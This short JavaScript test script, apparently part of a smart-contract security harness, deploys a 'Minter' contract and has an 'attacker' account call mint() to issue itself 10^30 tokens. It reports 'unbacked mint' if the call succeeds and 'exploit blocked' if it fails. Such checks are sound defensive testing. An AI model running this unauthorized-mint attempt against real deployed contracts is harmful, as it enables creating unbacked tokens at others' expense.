const { accounts, deploy, run } = require('./harness');

run(async () => {
  const m = await deploy('Minter');
  const r = await m.call('attacker', 'mint(address,uint256)', [accounts.attacker, 10n ** 30n]);
  const bal = await m.call('attacker', 'balanceOf(address)', [accounts.attacker]);
  const exploited = r.ok && bal.value === 10n ** 30n;
  console.log(exploited ? 'unbacked mint' : 'exploit blocked');
  return exploited;
});
